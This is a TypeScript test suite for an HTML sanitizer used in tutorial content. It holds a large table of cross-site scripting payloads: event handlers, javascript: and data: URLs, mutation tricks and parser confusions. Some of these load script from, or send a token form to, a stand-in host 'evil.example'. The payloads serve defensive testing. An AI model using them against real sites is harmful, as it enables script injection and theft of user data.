import assert from 'node:assert/strict';
import { foldSummaries, sanitizeHtml } from '../../../src/core/tutorial/sanitizeHtml.ts';
import { jumble, randomOf } from '../random.ts';
import { dangers, elementsOf, textOf } from './liveParts.ts';

const inPack = (source: string) => (/^[a-z][a-z\d+.-]*:|^\/\//i.test(source) ? undefined : `pack:${source}`);
const clean = (html: string) => sanitizeHtml(html, inPack);

describe('sanitizeHtml', () => {
  it('lets the few harmless elements through, with the few harmless attributes', () => {
    const html =
      '<details open class="x"><summary id="y">Hint</summary><p style="color:red">A <kbd>Ctrl</kbd>+<b>C</b><br/>H<sub>2</sub>O</p>' +
      '<img src="a.png" alt="A &amp; B" width=20 data-block="0" /><video src="v.mp4" controls autoplay></video></details>';
    assert.equal(
      clean(html),
      '<details open><summary>Hint</summary><p>A <kbd>Ctrl</kbd>+<b>C</b><br>H<sub>2</sub>O</p>' +
        '<img src="pack:a.png" alt="A &amp; B" width="20"><video src="pack:v.mp4" controls></video></details>',
    );
  });

  it('shows what it does not know as the text it is', () => {
    assert.equal(
      textOf(clean('<my-tag a="b">x</my-tag> 1 < 2 &amp; 3 > 2 &copy; & so on')),
      '<my-tag a="b">x</my-tag> 1 < 2 & 3 > 2 © & so on',
    );
  });

  it('drops comments, those that nobody ends as well', () => {
    assert.equal(clean('a<!-- <img src=x onerror=alert(1)> -->b<!-- c <b>d</b>'), 'ab');
  });

  it('counts folds from the number it is given', () => {
    const html = '</details><details><summary>One</summary></details><!-- <details> --><DETAILS open>two</DETAILS>';
    assert.equal(
      sanitizeHtml(html, inPack, 3),
      '</details><details data-hint="3"><summary>One</summary></details><details data-hint="4" open>two</details>',
    );
    assert.deepEqual(foldSummaries(html), ['One', '']);
  });

  const attacks = {
    script: '<script>alert(1)</script>',
    'script in odd case': '<ScRiPt src=//evil.example/x.js></sCrIpT >',
    'script in pieces': '<scr<script>ipt>alert(1)</scr</script>ipt>',
    'event handler': '<img src=x onerror=alert(1)>',
    'event handler after a slash': '<img/src=x/onerror=alert(1)>',
    'event handler without a space': '<img src="x"onerror=alert(1)>',
    'event handler after a line break': '<img src=x\nonerror\n=\nalert(1)>',
    'event handler after a form feed': '<img\fsrc=x\fonerror=alert(1)>',
    'event handler on a fold': '<details open ontoggle=alert(1)>x</details>',
    'event handler in an unended tag': '<img src=x onerror=alert(1) ',
    'event handler behind a quote': '<img title="\'><img src=x onerror=alert(1)>">',
    'event handler behind an encoded quote': '<img alt="x&quot; onerror=&quot;alert(1)">',
    'event handler behind a numeric quote': '<img alt="x&#34; onerror=&#34;alert(1)">',
    'event handler behind a quote in single quotes': `<img alt='x" onerror="alert(1)'>`,
    'event handler behind a backtick': '<img alt=`x onerror=alert(1)`>',
    'two of an attribute': '<img alt=a alt="b" src=x src=javascript:alert(1)>',
    'javascript: address': '<img src="javascript:alert(1)">',
    'javascript: in entities': '<img src="&#106;avascript:alert(1)">',
    'javascript: with a tab': '<img src="java\tscript:alert(1)">',
    'javascript: behind a space': '<img src=" javascript:alert(1)">',
    'javascript: behind a control character': '<img src="\u0001javascript:alert(1)">',
    'data: address': '<video src="data:text/html,<script>alert(1)</script>"></video>',
    'data: address in odd case': '<img src="DaTa:image/svg+xml,<svg onload=alert(1)>">',
    'protocol-relative address': '<img src="//evil.example/x.png">',
    link: '<a href="javascript:alert(1)">x</a>',
    iframe: '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    object: '<object data="javascript:alert(1)"><embed src="javascript:alert(1)">',
    form: '<form action="https://evil.example"><input name=token><button formaction="javascript:alert(1)">x</button></form>',
    'base, meta and link':
      '<base href="//evil.example"><meta http-equiv=refresh content="0;url=//evil.example"><link rel=stylesheet href=//x>',
    style: '<style>*{background:url(//evil.example)}</style><p style="background:url(//evil.example)">x</p>',
    svg: '<svg onload=alert(1)><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    'svg that changes how its content is read': '<svg><style><img src=x onerror=alert(1)></style></svg>',
    math: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    noscript: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    'raw text elements':
      '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea><title><img src=x onerror=alert(1)></title>',
    template: '<template><img src=x onerror=alert(1)></template>',
    'comment that ends early': '<!--><img src=x onerror=alert(1)> -->',
    'comment that ends with a bang': '<!-- --!><img src=x onerror=alert(1)> -->',
    'comment that is none': '<! ><img src=x onerror=alert(1)>',
    'processing instruction': '<?xml ><img src=x onerror=alert(1)>?>',
    cdata: '<![CDATA[<img src=x onerror=alert(1)>]]>',
    'unbalanced folds': '</details></summary></p></div><details><summary><details><summary><p><b><i>',
    'pretended live parts': '<p data-block="0" data-link="0" class="alert" id="guide"><details data-hint="9">x</details>',
    'a name from a prototype': '<constructor onclick=alert(1)><__proto__><hasOwnProperty src=x><img constructor=x __proto__=y>',
    'long s and Kelvin sign': '<\u017fcript>alert(1)</\u017fcript><\u212abd onclick=alert(1)><img \u017frc=javascript:alert(1)>',
    'null characters': '<scr\0ipt>alert(1)</script><img\0 src=x onerror\0=alert(1)>',
  };
  for (const [name, html] of Object.entries(attacks)) {
    it(`leaves nothing alive of: ${name}`, () => {
      assert.deepEqual(dangers(clean(html)), []);
      assert.deepEqual(dangers(`<p>${clean(html)}</p>`), []);
    });
  }

  it('keeps an address an address, whatever is in it', () => {
    const quoted = sanitizeHtml('<img src="https://a.b/&quot;onerror=alert(1)">', (source) => source);
    assert.deepEqual(elementsOf(quoted), ['img src=“https://a.b/"onerror=alert(1)”']);
  });

  it('asks for the address that is meant', () => {
    const asked: string[] = [];
    sanitizeHtml(`<img src="a&amp;b.png"><video src='"c".mp4'><source src=d.webm>`, (source) => {
      asked.push(source);
      return undefined;
    });
    assert.deepEqual(asked, ['a&b.png', '"c".mp4', 'd.webm']);
  });

  it('cleans what is clean already to the same', () => {
    const once = clean('<details><summary>A &amp; &lt;B&gt;</summary><img alt="&quot;x&quot; &amp;lt;"></details> & <x>');
    assert.equal(clean(once), once);
  });

  it('leaves nothing alive of thousands of jumbles', () => {
    const random = randomOf(11);
    const pieces = [
      '<',
      '>',
      '"',
      "'",
      '`',
      '=',
      '/',
      ' ',
      '\n',
      '<img',
      '<details',
      '<summary>',
      '</summary>',
      '<svg',
      '<script',
      '</script>',
      '<style',
      '<p',
      '<video',
      ' src',
      ' alt',
      ' title',
      ' onerror',
      ' open',
      '=alert(1)',
      'javascript:',
      'data:',
      'https:',
      '&quot;',
      '&#34;',
      '&gt;',
      '&lt;',
      '&',
      '<!--',
      '-->',
      '--!>',
      '<!',
      '<?',
      ']]>',
      '\0',
      'x',
      '</',
      '/>',
    ];
    for (let round = 0; round < 20_000; round++) {
      const html = jumble(random, pieces, 16);
      assert.deepEqual(dangers(clean(html)), [], JSON.stringify(html));
    }
  });

  it('takes time in proportion to the text, however odd', () => {
    for (const odd of [
      '<!--',
      '<b ',
      '<b a=',
      '<b a="',
      '<b a=\'"',
      '<details><summary>',
      '<details>x<summary>',
      '<details>y</summary>',
      '&',
      '<img alt=x ',
    ]) {
      const started = performance.now();
      clean(odd.repeat(30_000));
      foldSummaries(odd.repeat(30_000));
      assert.ok(performance.now() - started < 1500, `${odd} took ${Math.round(performance.now() - started)} ms`);
    }
  });
});
